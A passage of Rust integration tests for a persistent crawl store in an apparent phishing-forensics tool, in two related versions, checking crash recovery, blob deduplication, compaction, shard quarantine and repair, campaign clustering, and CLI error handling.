    assert!(sink.finish().is_err(), "finish surfaces the poisoning error");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The crash-recovery satellite: chop bytes off the tail of the last
/// segment (a torn mid-append write), reopen, and the store truncates the
/// torn frame, verifies clean, and an incremental re-scan with the
/// recovered skip set re-processes exactly the lost message.
#[test]
fn torn_tail_is_truncated_and_incremental_rescan_fills_the_gap() {
    let (corpus, subset) = corpus_subset(5, 10);
    let dir = scratch("torn");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(Store::open_with(&dir, one_shard()).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    let total = store.len();
    assert_eq!(total, subset.len());
    drop(store);

    // Tear the tail: the crash happened mid-append of the last frame.
    let seg_dir = dir.join("shard-00").join("segments-00000");
    let mut names: Vec<String> = std::fs::read_dir(&seg_dir)
        .unwrap()
        .filter_map(|e| e.unwrap().file_name().into_string().ok())
        .collect();
    names.sort();
    let last_segment = seg_dir.join(names.last().unwrap());
    let len = std::fs::metadata(&last_segment).unwrap().len();
    let file = std::fs::OpenOptions::new().write(true).open(&last_segment).unwrap();
    file.set_len(len - 7).unwrap();
    drop(file);

    let mut store = Store::open(&dir).unwrap();
    assert_eq!(store.shard_count(), 1, "manifest shard count survives reopen");
    let torn = store.recovery().torn.first().cloned().expect("torn tail must be reported");
    assert_eq!(torn.segment, last_segment);
    assert!(torn.dropped_bytes > 0);
    assert_eq!(store.len(), total - 1, "exactly the mid-append record is lost");
    assert!(
        store.verify().unwrap().is_clean(),
        "truncation leaves a CRC-clean log"
    );

    // Incremental re-scan: only the torn-away message is re-processed.
    let known = store.known_hashes();
    assert_eq!(known.len(), total - 1);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_known_hashes(known)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(store);
    let delivered = cbx.scan_stream(subset.iter().cloned(), &mut sink);
    assert_eq!(delivered, 1, "only the lost record is rescanned");
    assert_eq!(cbx.stats().skipped_known, (total - 1) as u64);
    let (mut store, ()) = sink.finish().unwrap();
    assert_eq!(store.len(), total);
    let mut ids: Vec<usize> = store.read_all().unwrap().iter().map(|r| r.message_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, (0..subset.len()).collect::<Vec<_>>(), "log is complete again");
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Blob-store contract: artifacts are content-addressed, deduplicated
/// across records, read back byte-identical, and orphans (referenced by
/// no record) are GC-able without touching live blobs.
#[test]
fn blob_store_dedups_reads_back_and_gcs_orphans() {
    let dir = scratch("blob");
    let mut store = Store::open(&dir).unwrap();
    let shared = b"the same screenshot bitmap".to_vec();
    let shared_hash = fingerprint::fnv128(&shared);
    for id in 0..3usize {
        let unique = format!("message body {id}").into_bytes();
        let mut record = synthetic_record(id, id as u128 + 1, MessageClass::ActivePhish);
        record.artifacts = vec![
            CapturedArtifact {
                kind: ArtifactKind::Message,
                hash: fingerprint::fnv128(&unique),
                bytes: unique,
            },
            CapturedArtifact {
                kind: ArtifactKind::Screenshot,
                hash: shared_hash,
                bytes: shared.clone(),
            },
        ];
        store.append(&record).unwrap();
    }
    // 3 unique message blobs + 1 shared screenshot blob.
    assert_eq!(store.blobs().len(), 4);
    assert_eq!(store.stats().blob_dedup_hits, 2);
    assert_eq!(store.blob(shared_hash).unwrap().as_deref(), Some(shared.as_slice()));
    assert_eq!(store.blob(0xdead_beef).unwrap(), None);
    assert!(store.verify().unwrap().is_clean());
    store.sync().unwrap();
    drop(store);

    // An orphan blob (e.g. left by a crash between blob write and frame
    // append) reopens fine and is collected by GC; live blobs survive.
    let orphan = b"orphaned by a crash".to_vec();
    let orphan_hash = fingerprint::fnv128(&orphan);
    std::fs::write(dir.join("blobs").join(format!("{orphan_hash:032x}.blob")), &orphan).unwrap();

    let mut store = Store::open(&dir).unwrap();
    assert_eq!(store.recovery().blobs, 5);
    assert!(store.blobs().contains(shared_hash));
    let removed = store.gc_orphan_blobs().unwrap();
    assert_eq!(removed, vec![orphan_hash]);
    assert_eq!(store.blobs().len(), 4);
    assert!(store.blob(shared_hash).unwrap().is_some(), "live blob survives GC");
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Compaction keeps the newest record per content hash, swaps generations
/// atomically, and the compacted store survives reopen and further
/// appends.
#[test]
fn compaction_keeps_newest_record_per_content_hash() {
    let dir = scratch("compact");
    let mut store = Store::open_with(&dir, one_shard()).unwrap();
    store.append(&synthetic_record(0, 1, MessageClass::NoResource)).unwrap();
    store.append(&synthetic_record(1, 2, MessageClass::ErrorPage)).unwrap();
    // Same content hash as seq 0: a re-record that supersedes it.
    store.append(&synthetic_record(2, 1, MessageClass::ActivePhish)).unwrap();

    let report = store.compact().unwrap();
    assert_eq!((report.kept, report.dropped), (2, 1));
    let records = store.read_all().unwrap();
    assert_eq!(records.len(), 2);
    assert_eq!(records[0].message_id, 1, "survivors keep log order");
    assert_eq!(records[1].message_id, 2, "the newer duplicate wins");
    assert_eq!(records[1].class, MessageClass::ActivePhish);

    // The generation swap is visible on disk and survives reopen.
    let shard = dir.join("shard-00");
    assert!(!shard.join("segments-00000").exists(), "old generation removed");
    assert!(shard.join("segments-00001").is_dir());
    drop(store);
    let mut store = Store::open(&dir).unwrap();
    assert_eq!(store.len(), 2);
    assert!(store.contains_hash(1) && store.contains_hash(2));
    store.append(&synthetic_record(3, 9, MessageClass::Download)).unwrap();
    store.flush().unwrap();
    assert_eq!(store.len(), 3);
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Graceful degradation tentpole: interior corruption in one shard
/// quarantines that shard only. The store opens, serves the healthy
/// shards' records and campaigns, fails appends routed to the quarantined
/// shard with a repair hint, refuses GC, and `repair` salvages the valid
/// prefix and returns the shard to service.
#[test]
fn interior_corruption_quarantines_one_shard_and_repair_restores_it() {
    let dir = scratch("quarantine");
    let shards = 4usize;
    // A 1-byte segment target seals one record per segment file, so the
    // flipped byte lands in an *interior* segment of shard 1.
    let opts = StoreOptions {
        segment_target_bytes: 1,
        shards,
        ..StoreOptions::default()
    };
    let mut store = Store::open_with(&dir, opts).unwrap();
    for id in 0..3usize {
        let h = hash_in_shard(1, shards, id as u128 + 10);
        store.append(&synthetic_record(id, h, MessageClass::NoResource)).unwrap();
    }
    let healthy_hash = hash_in_shard(3, shards, 77);
    store.append(&synthetic_record(9, healthy_hash, MessageClass::ActivePhish)).unwrap();
    store.sync().unwrap();
    drop(store);

    let seg0 = dir.join("shard-01").join("segments-00000").join("seg-00000.cbl");
    let mut bytes = std::fs::read(&seg0).unwrap();
    let at = bytes.len() - 2;
    bytes[at] ^= 0xFF;
    std::fs::write(&seg0, &bytes).unwrap();

    // Open succeeds degraded; only shard 1 is fenced off.
    let mut store = Store::open(&dir).unwrap();
    assert!(store.is_degraded());
    assert_eq!(store.quarantined().len(), 1);
    assert_eq!(store.recovery().quarantined[0].0, 1);
    assert_eq!(store.len(), 1, "healthy shards keep serving");
    assert!(store.contains_hash(healthy_hash));
    assert_eq!(store.campaigns().len(), 1, "clustering runs on healthy shards");
    let stats = store.stats();
    assert!(stats.is_degraded());
    assert_eq!((stats.shards, stats.quarantined), (shards, 1));

    // Appends routed to the quarantined shard fail loudly with the repair
    // hint; appends to healthy shards still work.
    let err = store
        .append(&synthetic_record(20, hash_in_shard(1, shards, 500), MessageClass::Download))
        .unwrap_err();
    assert!(err.to_string().contains("repair"), "{err}");
    store
        .append(&synthetic_record(21, hash_in_shard(0, shards, 501), MessageClass::Download))
        .unwrap();
    assert!(store.gc_orphan_blobs().is_err(), "GC must refuse while degraded");
    assert!(store.compact().is_err(), "compaction must refuse while degraded");

    // Verify reports the corruption as a fault rather than an error.
    let report = store.verify().unwrap();
    assert!(!report.is_clean());
    assert!(report.faults.iter().any(|f| f.reason.contains("quarantined")), "{report:?}");

    // Repair salvages the two clean records of shard 1 (the third is in
    // the corrupted segment's suffix... each segment holds one record, so
    // the two untouched segments survive) and clears the degradation.
    let reports = store.repair(None).unwrap();
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].shard, 1);
    assert!(reports[0].was_quarantined);
    assert_eq!(reports[0].salvaged, 2, "valid frames are re-adjudicated");
    assert!(!store.is_degraded());
    assert_eq!(store.len(), 4, "2 salvaged + healthy shards");
    assert!(store.verify().unwrap().is_clean());
    store.gc_orphan_blobs().unwrap();

    // The repaired store reopens healthy.
    drop(store);
    let store = Store::open(&dir).unwrap();
    assert!(!store.is_degraded());
    assert_eq!(store.len(), 4);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A v1 store (CURRENT + segments-* at the root) migrates in place to a
/// single-shard v2 layout on open, with every record preserved.
#[test]
fn v1_layout_migrates_to_single_shard_v2() {
    use cb_store::frame::{encode_frame, KIND_RECORD};
    let dir = scratch("migrate");
    let seg_dir = dir.join("segments-00000");
    std::fs::create_dir_all(&seg_dir).unwrap();
    let mut bytes = Vec::new();
    for id in 0..3usize {
        let record = synthetic_record(id, id as u128 + 40, MessageClass::ErrorPage);
        bytes.extend_from_slice(&encode_frame(KIND_RECORD, &serde_json::to_vec(&record).unwrap()));
    }
    std::fs::write(seg_dir.join("seg-00000.cbl"), &bytes).unwrap();
    std::fs::write(dir.join("CURRENT"), b"segments-00000").unwrap();

    let mut store = Store::open(&dir).unwrap();
    assert_eq!(store.shard_count(), 1, "legacy stores migrate to one shard");
    assert_eq!(store.len(), 3);
    assert!(!store.is_degraded());
    assert!(dir.join("shard-00").join("CURRENT").exists());
    assert!(!dir.join("CURRENT").exists(), "root pointer moved into shard 0");
    assert!(store.verify().unwrap().is_clean());

    // The migrated store accepts appends and reopens as v2.
    store.append(&synthetic_record(3, 99, MessageClass::Download)).unwrap();
    store.sync().unwrap();
    drop(store);
    let store = Store::open(&dir).unwrap();
    assert_eq!(store.len(), 4);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The forensics layer runs against a store reopened from disk alone:
/// campaign clustering partitions every record across shards and is a
/// pure function of the rebuilt indexes.
#[test]
fn campaign_clustering_runs_from_a_reopened_store() {
    let (corpus, subset) = corpus_subset(3, 30);
    let dir = scratch("campaigns");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(8);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    drop(store);

    let store = Store::open(&dir).unwrap();
    let campaigns = store.campaigns();
    let clustered: usize = campaigns.iter().map(|c| c.len()).sum();
    assert_eq!(clustered, store.len(), "every record is in exactly one campaign");
    for (i, c) in campaigns.iter().enumerate() {
        assert_eq!(c.id, i, "campaign ids are dense and ordered");
        assert!(!c.is_empty());
        for &(shard, seq) in &c.members {
            assert!(shard < store.shard_count());
            assert!(seq < store.shard(shard).unwrap().len());
        }
    }
    let again = store.campaigns();
    let members: Vec<_> = campaigns.iter().map(|c| c.members.clone()).collect();
    let members_again: Vec<_> = again.iter().map(|c| c.members.clone()).collect();
    assert_eq!(members, members_again, "clustering is deterministic");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// CLI satellite: unknown subcommands, unknown flags, missing store
/// directories and out-of-range shard ids all exit 2 with a usage message
/// on stderr.
#[test]
fn crawl_log_cli_rejects_unknown_input() {
    let bin = env!("CARGO_BIN_EXE_crawl-log");
    for args in [
        vec!["store", "/nonexistent", "frobnicate"],
        vec!["store"],
        vec!["store", "/nonexistent", "stats"],
        vec!["store", "/nonexistent", "repair"],
        vec!["store", "/nonexistent", "query", "--wat"],
        vec!["--bogus"],
    ] {
        let out = Command::new(bin).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?} should exit 2");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("usage:"), "{args:?} stderr: {stderr}");
        assert!(stderr.contains("error:"), "{args:?} stderr: {stderr}");
    }
}

/// CLI satellite: the store query surface runs clean against a real store
/// written by the library; shard ids are validated; `repro` refuses
/// `--store` without `--stream`.
#[test]
fn crawl_log_cli_store_queries_run_clean() {
    let (corpus, subset) = corpus_subset(7, 8);
    let dir = scratch("cli");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    drop(store);

    let bin = env!("CARGO_BIN_EXE_crawl-log");
    let dir_arg = dir.to_str().unwrap();

    let out = Command::new(bin).args(["store", dir_arg, "stats"]).output().unwrap();
    assert!(out.status.success(), "stats failed: {}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("8 records"), "{stdout}");
    assert!(stdout.contains("status: healthy"), "{stdout}");
    assert!(stdout.contains("shard  0"), "{stdout}");
    assert!(stdout.contains("class mix:"), "{stdout}");
    assert!(stdout.contains("ingest (this session):"), "{stdout}");
    // A freshly opened CLI store has appended nothing, so the
    // session-scoped commit histogram is honest about being empty.
    assert!(stdout.contains("commit batches: none this session"), "{stdout}");

    let out = Command::new(bin).args(["store", dir_arg, "verify"]).output().unwrap();
    assert!(out.status.success(), "verify failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("store is clean"));

    let out = Command::new(bin)
        .args(["store", dir_arg, "campaigns", "--min-size", "1"])
        .output()
        .unwrap();
    assert!(out.status.success(), "campaigns failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("campaign(s)"));

    let out = Command::new(bin)
        .args(["store", dir_arg, "query", "--limit", "3"])
        .output()
        .unwrap();
    assert!(out.status.success(), "query failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("matching record(s)"));

    // Out-of-range shard ids are a usage error, not an empty result.
    let out = Command::new(bin)
        .args(["store", dir_arg, "query", "--shard", "99"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "unknown shard id must exit 2");
    assert!(String::from_utf8_lossy(&out.stderr).contains("no shard 99"));
    let out = Command::new(bin)
        .args(["store", dir_arg, "repair", "--shard", "99"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "repair of unknown shard must exit 2");

    // Repairing a healthy store is a clean no-op.
    let out = Command::new(bin).args(["store", dir_arg, "repair"]).output().unwrap();
    assert!(out.status.success(), "repair failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("nothing to repair"));

    let out = Command::new(env!("CARGO_BIN_EXE_repro"))
        .args(["classmix", "--store", dir_arg])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "--store without --stream must be rejected");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--stream"));

    std::fs::remove_dir_all(&dir).unwrap();
}

/// CLI golden satellite: every `crawl-log store` subcommand rejects
/// unknown flags with exit 2 + usage, and a missing, unreadable
/// (file-shadowed) or corrupt store directory is a usage error for all of
/// them — never a panic, never a zero exit.
#[test]
fn crawl_log_cli_store_subcommand_goldens() {
    let bin = env!("CARGO_BIN_EXE_crawl-log");
    let subcommands = ["stats", "verify", "query", "campaigns", "repair"];

    // A real (tiny but valid) store, so unknown-flag rejection is tested
    // against a directory that would otherwise succeed.
    let (corpus, subset) = corpus_subset(11, 2);
    let dir = scratch("cli-goldens");
    let cbx = CrawlerBox::new(&corpus.world);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    drop(sink.finish().unwrap());
    let dir_arg = dir.to_str().unwrap().to_string();

    let assert_usage = |args: &[&str], what: &str| {
        let out = Command::new(bin).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{what}: {args:?} must exit 2");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("usage:"), "{what}: {args:?} stderr: {stderr}");
        assert!(stderr.contains("error:"), "{what}: {args:?} stderr: {stderr}");
    };

    for sub in subcommands {
        // Unknown flag after a valid store + subcommand.
        assert_usage(&["store", &dir_arg, sub, "--wat"], "unknown flag");
        // Missing store directory.
        assert_usage(&["store", "/nonexistent-cb-store", sub], "missing dir");
    }

    // The store path exists but is a file, not a directory.
    let shadow = std::env::temp_dir().join(format!("cb-store-shadow-{}", std::process::id()));
    std::fs::write(&shadow, b"not a store").unwrap();
    let shadow_arg = shadow.to_str().unwrap().to_string();
    for sub in subcommands {
        assert_usage(&["store", &shadow_arg, sub], "file-shadowed dir");
    }
    std::fs::remove_file(&shadow).unwrap();

    // A corrupt manifest fails the open for every subcommand.
    std::fs::write(dir.join("STORE"), b"v9 shards=banana\n").unwrap();
    for sub in subcommands {
        assert_usage(&["store", &dir_arg, sub], "corrupt manifest");
    }

    std::fs::remove_dir_all(&dir).unwrap();
}
