//! End-to-end tests for the persistent crawl store: on-disk byte
//! determinism across schedulers and cache settings, torn-tail crash
//! recovery with incremental re-scan, blob dedup, compaction, corruption
//! detection, campaign clustering from disk, and the `crawl-log store` /
//! `repro --store` CLI surfaces.

use cb_artifacts::fingerprint;
use cb_phishgen::{Corpus, CorpusSpec, MessageClass, ReportedMessage};
use cb_sim::SimTime;
use cb_store::{cluster_campaigns, Store, StoreOptions, StoreSink};
use crawlerbox::{ArtifactKind, CapturedArtifact, CrawlerBox, ScanRecord, Scheduler};
use std::path::{Path, PathBuf};
use std::process::Command;

const SCHEDULERS: [Scheduler; 3] = [
    Scheduler::Serial,
    Scheduler::StaticChunk,
    Scheduler::WorkStealing,
];

/// A per-test scratch directory under the OS temp dir (the workspace has
/// no tempfile dependency); removed eagerly at the start so a crashed
/// earlier run never leaks state into this one.
fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("cb-store-it-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn corpus_subset(seed: u64, n: usize) -> (Corpus, Vec<ReportedMessage>) {
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), seed);
    let subset = corpus.messages.iter().take(n).cloned().collect();
    (corpus, subset)
}

/// Raw bytes of every segment file in the (first-generation) log, in
/// segment order — the strongest possible determinism witness.
fn segment_bytes(root: &Path) -> Vec<Vec<u8>> {
    cb_store::segment::list_segments(&root.join("segments-00000"))
        .unwrap()
        .into_iter()
        .map(|(_, path)| std::fs::read(path).unwrap())
        .collect()
}

fn synthetic_record(id: usize, hash: u128, class: MessageClass) -> ScanRecord {
    ScanRecord {
        message_id: id,
        content_hash: hash,
        delivered_at: SimTime::EPOCH,
        auth_pass: false,
        extracted: Vec::new(),
        visits: Vec::new(),
        body_bytes: 10,
        blank_line_run: 0,
        class,
        error: None,
        artifacts: Vec::new(),
    }
}

/// The tentpole acceptance check: streaming a corpus through `StoreSink`
/// writes byte-identical segment files for every scheduler, with caches on
/// or off, and the payloads read back equal to the canonical encoding of
/// an in-memory reference capture. Reopening the store reproduces the same
/// log with a clean verify.
#[test]
fn store_round_trip_is_byte_identical_across_configs() {
    let (corpus, subset) = corpus_subset(11, 24);
    let mut reference: Vec<ScanRecord> = Vec::new();
    CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::Serial)
        .with_caching(false)
        .with_artifact_capture(true)
        .with_stream_capacity(4)
        .scan_stream(subset.iter().cloned(), &mut reference);
    assert_eq!(reference.len(), subset.len());
    assert!(
        reference.iter().any(|r| !r.artifacts.is_empty()),
        "capture should attach at least message artifacts"
    );
    let expected: Vec<Vec<u8>> = reference
        .iter()
        .map(|r| serde_json::to_vec(r).unwrap())
        .collect();

    let mut golden: Option<Vec<Vec<u8>>> = None;
    for scheduler in SCHEDULERS {
        for caching in [false, true] {
            let dir = scratch(&format!("rt-{scheduler:?}-{caching}"));
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_caching(caching)
                .with_artifact_capture(true)
                .with_stream_capacity(4);
            let mut sink = StoreSink::new(Store::open(&dir).unwrap());
            let delivered = cbx.scan_stream(subset.iter().cloned(), &mut sink);
            assert_eq!(delivered, subset.len(), "{scheduler:?} caching {caching}");
            assert_eq!(sink.appended(), subset.len());
            let (mut store, ()) = sink.finish().unwrap();
            assert_eq!(
                store.read_payloads().unwrap(),
                expected,
                "payloads diverged ({scheduler:?}, caching {caching})"
            );
            drop(store);

            let mut reopened = Store::open(&dir).unwrap();
            assert!(reopened.recovery().torn.is_none());
            assert_eq!(reopened.len(), subset.len());
            assert_eq!(
                reopened.read_payloads().unwrap(),
                expected,
                "reopen replay diverged ({scheduler:?}, caching {caching})"
            );
            assert!(reopened.verify().unwrap().is_clean());

            let bytes = segment_bytes(&dir);
            match &golden {
                None => golden = Some(bytes),
                Some(g) => assert_eq!(
                    &bytes, g,
                    "on-disk segment bytes diverged ({scheduler:?}, caching {caching})"
                ),
            }
            std::fs::remove_dir_all(&dir).unwrap();
        }
    }
}

/// The crash-recovery satellite: chop bytes off the tail of the last
/// segment (a torn mid-append write), reopen, and the store truncates the
/// torn frame, verifies clean, and an incremental re-scan with the
/// recovered skip set re-processes exactly the lost message.
#[test]
fn torn_tail_is_truncated_and_incremental_rescan_fills_the_gap() {
    let (corpus, subset) = corpus_subset(5, 10);
    let dir = scratch("torn");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    let total = store.len();
    assert_eq!(total, subset.len());
    drop(store);

    // Tear the tail: the crash happened mid-append of the last frame.
    let segments = cb_store::segment::list_segments(&dir.join("segments-00000")).unwrap();
    let (_, last_segment) = segments.last().unwrap();
    let len = std::fs::metadata(last_segment).unwrap().len();
    let file = std::fs::OpenOptions::new().write(true).open(last_segment).unwrap();
    file.set_len(len - 7).unwrap();
    drop(file);

    let mut store = Store::open(&dir).unwrap();
    let torn = store.recovery().torn.clone().expect("torn tail must be reported");
    assert_eq!(torn.segment, *last_segment);
    assert!(torn.dropped_bytes > 0);
    assert_eq!(store.len(), total - 1, "exactly the mid-append record is lost");
    assert!(
        store.verify().unwrap().is_clean(),
        "truncation leaves a CRC-clean log"
    );

    // Incremental re-scan: only the torn-away message is re-processed.
    let known = store.known_hashes();
    assert_eq!(known.len(), total - 1);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_known_hashes(known)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(store);
    let delivered = cbx.scan_stream(subset.iter().cloned(), &mut sink);
    assert_eq!(delivered, 1, "only the lost record is rescanned");
    assert_eq!(cbx.stats().skipped_known, (total - 1) as u64);
    let (mut store, ()) = sink.finish().unwrap();
    assert_eq!(store.len(), total);
    let mut ids: Vec<usize> = store.read_all().unwrap().iter().map(|r| r.message_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, (0..subset.len()).collect::<Vec<_>>(), "log is complete again");
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Blob-store contract: artifacts are content-addressed, deduplicated
/// across records, and read back byte-identical.
#[test]
fn blob_store_dedups_and_reads_back() {
    let dir = scratch("blob");
    let mut store = Store::open(&dir).unwrap();
    let shared = b"the same screenshot bitmap".to_vec();
    let shared_hash = fingerprint::fnv128(&shared);
    for id in 0..3usize {
        let unique = format!("message body {id}").into_bytes();
        let mut record = synthetic_record(id, id as u128 + 1, MessageClass::ActivePhish);
        record.artifacts = vec![
            CapturedArtifact {
                kind: ArtifactKind::Message,
                hash: fingerprint::fnv128(&unique),
                bytes: unique,
            },
            CapturedArtifact {
                kind: ArtifactKind::Screenshot,
                hash: shared_hash,
                bytes: shared.clone(),
            },
        ];
        store.append(&record).unwrap();
    }
    // 3 unique message blobs + 1 shared screenshot blob.
    assert_eq!(store.blobs().len(), 4);
    assert_eq!(store.stats().blob_dedup_hits, 2);
    assert_eq!(store.blob(shared_hash).unwrap().as_deref(), Some(shared.as_slice()));
    assert_eq!(store.blob(0xdead_beef).unwrap(), None);
    assert!(store.verify().unwrap().is_clean());

    // Reopen re-indexes the blob directory.
    drop(store);
    let store = Store::open(&dir).unwrap();
    assert_eq!(store.recovery().blobs, 4);
    assert!(store.blobs().contains(shared_hash));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Compaction keeps the newest record per content hash, swaps generations
/// atomically, and the compacted store survives reopen and further
/// appends.
#[test]
fn compaction_keeps_newest_record_per_content_hash() {
    let dir = scratch("compact");
    let mut store = Store::open(&dir).unwrap();
    store.append(&synthetic_record(0, 1, MessageClass::NoResource)).unwrap();
    store.append(&synthetic_record(1, 2, MessageClass::ErrorPage)).unwrap();
    // Same content hash as seq 0: a re-record that supersedes it.
    store.append(&synthetic_record(2, 1, MessageClass::ActivePhish)).unwrap();

    let report = store.compact().unwrap();
    assert_eq!((report.kept, report.dropped), (2, 1));
    let records = store.read_all().unwrap();
    assert_eq!(records.len(), 2);
    assert_eq!(records[0].message_id, 1, "survivors keep log order");
    assert_eq!(records[1].message_id, 2, "the newer duplicate wins");
    assert_eq!(records[1].class, MessageClass::ActivePhish);

    // The generation swap is visible on disk and survives reopen.
    assert!(!dir.join("segments-00000").exists(), "old generation removed");
    assert!(dir.join("segments-00001").is_dir());
    drop(store);
    let mut store = Store::open(&dir).unwrap();
    assert_eq!(store.len(), 2);
    assert!(store.contains_hash(1) && store.contains_hash(2));
    store.append(&synthetic_record(3, 9, MessageClass::Download)).unwrap();
    store.flush().unwrap();
    assert_eq!(store.len(), 3);
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Corruption that is not a torn tail must never be silently dropped:
/// `verify` reports it as a fault and a fresh open refuses the store.
#[test]
fn interior_corruption_fails_open_and_verify_flags_it() {
    let dir = scratch("corrupt");
    // A 1-byte segment target seals one record per segment file.
    let opts = StoreOptions { segment_target_bytes: 1, ..StoreOptions::default() };
    let mut store = Store::open_with(&dir, opts.clone()).unwrap();
    for id in 0..3usize {
        store.append(&synthetic_record(id, id as u128 + 10, MessageClass::NoResource)).unwrap();
    }
    let seg0 = dir.join("segments-00000").join("seg-00000.cbl");
    let mut bytes = std::fs::read(&seg0).unwrap();
    let at = bytes.len() - 2;
    bytes[at] ^= 0xFF;
    std::fs::write(&seg0, &bytes).unwrap();

    let report = store.verify().unwrap();
    assert!(!report.is_clean());
    assert!(report.faults.iter().any(|f| f.path == seg0), "{report:?}");
    assert_eq!(report.records, 2, "the other segments still verify");

    // A flipped byte in an interior segment is corruption, not a crash.
    drop(store);
    let err = Store::open_with(&dir, opts).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The forensics layer runs against a store reopened from disk alone:
/// campaign clustering partitions every record and is a pure function of
/// the rebuilt index.
#[test]
fn campaign_clustering_runs_from_a_reopened_store() {
    let (corpus, subset) = corpus_subset(3, 30);
    let dir = scratch("campaigns");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(8);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    drop(store);

    let store = Store::open(&dir).unwrap();
    let campaigns = cluster_campaigns(store.index());
    let clustered: usize = campaigns.iter().map(|c| c.len()).sum();
    assert_eq!(clustered, store.len(), "every record is in exactly one campaign");
    for (i, c) in campaigns.iter().enumerate() {
        assert_eq!(c.id, i, "campaign ids are dense and ordered");
        assert!(!c.is_empty());
    }
    let again = cluster_campaigns(store.index());
    let seqs: Vec<_> = campaigns.iter().map(|c| c.seqs.clone()).collect();
    let seqs_again: Vec<_> = again.iter().map(|c| c.seqs.clone()).collect();
    assert_eq!(seqs, seqs_again, "clustering is deterministic");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// CLI satellite: unknown subcommands and flags exit nonzero with a usage
/// message on stderr.
#[test]
fn crawl_log_cli_rejects_unknown_input() {
    let bin = env!("CARGO_BIN_EXE_crawl-log");
    for args in [
        vec!["store", "/nonexistent", "frobnicate"],
        vec!["store"],
        vec!["store", "/nonexistent", "query", "--wat"],
        vec!["--bogus"],
    ] {
        let out = Command::new(bin).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?} should exit 2");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("usage:"), "{args:?} stderr: {stderr}");
        assert!(stderr.contains("error:"), "{args:?} stderr: {stderr}");
    }
}

/// CLI satellite: the store query surface runs clean against a real store
/// written by the library, and `repro` refuses `--store` without
/// `--stream`.
#[test]
fn crawl_log_cli_store_queries_run_clean() {
    let (corpus, subset) = corpus_subset(7, 8);
    let dir = scratch("cli");
    let cbx = CrawlerBox::new(&corpus.world)
        .with_artifact_capture(true)
        .with_stream_capacity(4);
    let mut sink = StoreSink::new(Store::open(&dir).unwrap());
    cbx.scan_stream(subset.iter().cloned(), &mut sink);
    let (store, ()) = sink.finish().unwrap();
    drop(store);

    let bin = env!("CARGO_BIN_EXE_crawl-log");
    let dir_arg = dir.to_str().unwrap();

    let out = Command::new(bin).args(["store", dir_arg, "stats"]).output().unwrap();
    assert!(out.status.success(), "stats failed: {}", String::from_utf8_lossy(&out.stderr));
